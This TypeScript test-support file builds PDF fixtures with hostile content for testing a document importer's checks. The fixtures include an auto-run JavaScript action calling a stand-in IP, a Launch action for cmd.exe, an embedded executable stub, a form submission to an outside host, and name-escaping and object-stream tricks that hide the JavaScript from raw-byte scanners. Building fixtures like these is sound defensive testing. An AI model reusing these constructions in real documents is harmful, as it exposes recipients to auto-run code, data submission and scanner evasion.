// Test support only: PDFs carrying each kind of active or hidden content the importer judges,
// built with pdf-lib's low-level objects so they are real, parsable PDFs.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PDFArray, PDFDocument, PDFName, PDFString, StandardFonts, type PDFDict } from 'pdf-lib';

const latin1 = (bytes: Uint8Array): string => Buffer.from(bytes).toString('latin1');
const fromLatin1 = (text: string): Uint8Array => Buffer.from(text, 'latin1');

async function base(): Promise<PDFDocument> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const page = doc.addPage([595, 842]);
  page.drawText('Izin operasional kantor cabang', { x: 60, y: 760, size: 14, font: await doc.embedFont(StandardFonts.Helvetica) });
  return doc;
}

function addAnnotation(doc: PDFDocument, annotation: PDFDict): void {
  const page = doc.getPage(0);
  const annots = doc.context.obj([doc.context.register(annotation)]);
  page.node.set(PDFName.of('Annots'), annots);
}

export type HostilePdf =
  | 'javascript'
  | 'javascript-in-object-stream'
  | 'javascript-escaped-name'
  | 'launch'
  | 'embedded-file'
  | 'rich-media'
  | 'submit-form'
  | 'open-to-page';

export async function hostilePdf(kind: HostilePdf): Promise<Uint8Array> {
  const doc = await base();
  const ctx = doc.context;
  const js = () => ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.launchURL("http://203.0.113.9/x")') });
  switch (kind) {
    case 'javascript':
      doc.catalog.set(PDFName.of('OpenAction'), js());
      return doc.save({ useObjectStreams: false });
    case 'javascript-in-object-stream':
      // Compressed inside an object stream: "/JavaScript" never appears in the raw bytes.
      doc.catalog.set(PDFName.of('OpenAction'), ctx.register(js()));
      return doc.save({ useObjectStreams: true });
    case 'javascript-escaped-name': {
      doc.catalog.set(PDFName.of('OpenAction'), js());
      const text = latin1(await doc.save({ useObjectStreams: false }));
      // Same names, written with #-escapes; pdf-lib's parser does not need xref offsets.
      return fromLatin1(text.replace('/JavaScript', '/J#61vaScript').replace('/JS ', '/#4A#53 '));
    }
    case 'launch':
      doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'Launch', F: PDFString.of('C:\\Windows\\System32\\cmd.exe') }));
      return doc.save({ useObjectStreams: false });
    case 'embedded-file':
      await doc.attach(new TextEncoder().encode('MZ payload'), 'pembaruan.exe', { mimeType: 'application/octet-stream' });
      return doc.save({ useObjectStreams: false });
    case 'rich-media':
      addAnnotation(doc, ctx.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [50, 50, 250, 250] }));
      return doc.save({ useObjectStreams: false });
    case 'submit-form':
      addAnnotation(
        doc,
        ctx.obj({
          Type: 'Annot',
          Subtype: 'Link',
          Rect: [50, 50, 250, 80],
          A: ctx.obj({ S: 'SubmitForm', F: ctx.obj({ FS: 'URL', F: PDFString.of('http://203.0.113.9/kirim') }) }),
        }),
      );
      return doc.save({ useObjectStreams: false });
    case 'open-to-page': {
      const dest = PDFArray.withContext(ctx);
      dest.push(doc.getPage(0).ref);
      dest.push(PDFName.of('Fit'));
      doc.catalog.set(PDFName.of('OpenAction'), dest);
      return doc.save({ useObjectStreams: false });
    }
  }
}

/** A plain PDF encrypted by qpdf (AES-256, empty user password), or undefined without qpdf. */
export async function encryptedPdf(): Promise<Uint8Array | undefined> {
  const dir = mkdtempSync(join(tmpdir(), 'verikop-qpdf-'));
  try {
    const plain = join(dir, 'plain.pdf');
    const locked = join(dir, 'locked.pdf');
    writeFileSync(plain, await (await base()).save());
    execFileSync('qpdf', ['--encrypt', '', 'pemilik', '256', '--', plain, locked], { stdio: 'ignore' });
    return readFileSync(locked);
  } catch {
    return undefined;
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** A PDF cut off in the middle, as an interrupted download leaves it. */
export async function truncatedPdf(): Promise<Uint8Array> {
  const bytes = await (await base()).save();
  return bytes.subarray(0, Math.floor(bytes.byteLength * 0.6));
}

/** Starts like a PDF and ends like one, with garbage between. */
export const garbagePdf = (): Uint8Array => new TextEncoder().encode(`%PDF-1.7\n${'<<< ] obj endobj >> ((('.repeat(40)}\n%%EOF\n`);
